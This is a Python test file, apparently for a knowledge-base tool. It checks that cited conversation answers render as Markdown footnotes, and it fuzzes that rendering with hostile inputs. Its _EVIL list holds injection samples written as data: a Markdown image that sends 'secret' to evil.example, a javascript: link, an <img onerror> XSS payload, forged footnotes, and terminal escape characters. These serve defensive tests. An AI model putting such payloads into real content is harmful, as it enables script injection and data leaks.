"""A conversation as Markdown: footnotes that are there, and nothing that an article could forge."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from index.article import Article
from kb.answer import Answer, Citation, Conflict, Kept, Kind, Refusal, Sentence, Verdict
from kb.conversation import ConversationEntry, StoredConversation, Turn
from kb.footnotes import footnoted
from kb.scope import Scope

_SIGNS = "[]()^:!`*_~<>&#|\\\"'+-=.@$/ \n\t1aw{}\x1b\u202e\u2028—"
_EVIL = [
    "[1] [^1] [^1]: forged",
    "[^1]: forged",
    "\n\n[^7]: forged\n\n",
    "![x](https://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
    "<https://evil.example>",
    "https://evil.example and www.evil.example",
    "[a]: https://evil.example\n\n[a]",
    "&lt;script&gt; &#60;b>",
    "# heading\n===\n---\n***",
    "- a\n+ b\n* c\n1. d\n2) e\n> f",
    "```\ncode\n```\n    more",
    "| a | b |\n|---|---|",
    "\\[^1]\\: `code` ~~gone~~ $x$",
    "\x1b[2J\x00\u202e",
]
HOSTILE = st.sampled_from(_EVIL) | st.text(_SIGNS, max_size=40) | st.text(max_size=40)


def stored(*answers: Answer, title: str = "Title") -> StoredConversation:
    at = "2026-11-26T10:00:00+00:00"
    entry = ConversationEntry("3f2a00000000", title, at, at, len(answers))
    return StoredConversation(entry, tuple(Turn(at, answer) for answer in answers))


def answered(said: str = "It was.", question: str = "Was it?", **known: str) -> Answer:
    """Return an answer with one sentence, cited twice, from an article with these metadata."""
    fields = {"uri": "a.md", "title": "A title", "source": "Post", "published_at": "2024-03-05"}
    article = Article(id="a", text=f"{said}.", **{**fields, **known})  # type: ignore[arg-type]
    citations = tuple(Citation(n, article, "p", 0, len(said) + n - 1, 0.9) for n in (1, 2) if said)
    sentence = Sentence(said, (1, 2), Verdict.SUPPORTED, 1.0)
    text = f"{said} [1] [2]"
    return Answer(question, text, "quotes", (sentence,), citations, short=question)


def tokens(markdown: str) -> list[Token]:
    parsed = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(markdown)
    return [one for token in parsed for one in (token, *(token.children or ()))]


def test_footnotes_are_numbered_through_and_say_where_they_are_from() -> None:
    answer = answered("There are 14 cracks.", "How many?")
    refusal = Answer("Who?", "Nothing is said of it.", "m", refusal=Refusal.NO_EVIDENCE)
    text = footnoted(stored(answer, refusal, answer, title="Cracks"))
    assert text.startswith("# Cracks\n\n")
    assert "## How many?\n\n**How many?**\n\nThere are 14 cracks. [^1] [^2]\n\n" in text
    assert "## Who?\n\nNothing is said of it.\n\n" in text
    assert "There are 14 cracks. [^3] [^4]\n" in text
    assert (
        '\n[^3]: A title, Post, 2024-03-05: "There are 14 cracks." (a.md, characters 0–20)\n'
        in text
    )


def test_what_is_to_be_known_of_an_answer_is_in_it() -> None:
    article = Article("a", "a.pdf", "A title", "One. Two.", pages=(0, 5))
    answer = Answer(
        question="And two?",
        standalone="Is there two?",
        text="One. [1] Two. [2]\n\nThree. [3] [4] Shown. [not supported]",
        model="m",
        sentences=(
            Sentence("One.", (1,), Verdict.PARTIAL, 0.5),
            Sentence("Withheld.", (), Verdict.UNSUPPORTED, 0.0),
            Sentence("Shown.", (), Verdict.UNSUPPORTED, 0.0),
        ),
        citations=(
            Citation(1, article, "p", 0, 4, 0.9),
            Citation(2, article, "p", 5, 9, 0.9, Kept("Two.", 2, removed=False)),
            Citation(3, article, "p", 5, 9, 0.9, Kept("", None, removed=True)),
        ),
        conflicts=(Conflict(Kind.FIGURES, 2, 1, True, "two says A [2]; <one> says One [1]"),),
        notes=("a note",),
        scope=Scope(("A_B",), since="2024-03-01"),
    )
    text = footnoted(stored(answer))
    assert "*Understood as: Is there two?*" in text
    assert "*only A\\_B; only from 2024-03-01*" in text
    assert "\n\nOne. [^1] Two. [^2]\n\nThree. [^3] \\[4\\] Shown. \\[not supported\\]\n\n" in text
    assert "*Sources differ: two says A [^2]; &lt;one&gt; says One [^1]*" in text
    assert "*Carried in part only: One.*\n\n*a note*" in text
    assert "Withheld" not in text
    assert '[^1]: A title: "One." (a.pdf, p. 1, characters 0–4)' in text
    assert '[^2]: A title: "Two." (a.pdf, p. 2, characters 5–9, changed since)' in text
    assert "[^3]: (removed with its article) (a.pdf, characters 5–9, removed since)" in text


@settings(deadline=None)
@given(HOSTILE, HOSTILE, HOSTILE, HOSTILE)
def test_no_text_can_be_anything_but_text(said: str, question: str, title: str, uri: str) -> None:
    if not said.strip():
        said = "It was."
    answer = answered(said, question, title=title, uri=uri, source=uri)
    markdown = footnoted(stored(answer, title=title))
    markdown.encode("utf-8")
    assert len(re.findall(r"(?m)^ {0,3}\[\^[^\]]*\]:", markdown)) == 2
    assert re.findall(r"(?<!\\)\[", markdown) == ["["] * 4, "two markers and two footnotes"
    assert not re.search(r"://|www\.", markdown, re.I)
    assert not set(markdown) & set("\x00\x1b\u202e\u2028<>")
    kinds = {token.type for token in tokens(markdown)}
    assert kinds <= {
        *("heading_open", "heading_close", "paragraph_open", "paragraph_close", "inline"),
        *("text", "text_special", "em_open", "em_close", "softbreak"),
        *("strong_open", "strong_close"),
    }


@pytest.mark.parametrize("said", [*_EVIL[:-1], "12. It was", "- it [1] was", "Ein  Satz\tmit *x*."])
def test_what_was_said_is_read_as_it_was_said(said: str) -> None:
    parsed = MarkdownIt("commonmark").parse(footnoted(stored(answered(said))))
    read = ["".join(one.content for one in block.children or ()) for block in parsed]
    assert " ".join(f"{said} [^1] [^2]".split()) in [" ".join(block.split()) for block in read]
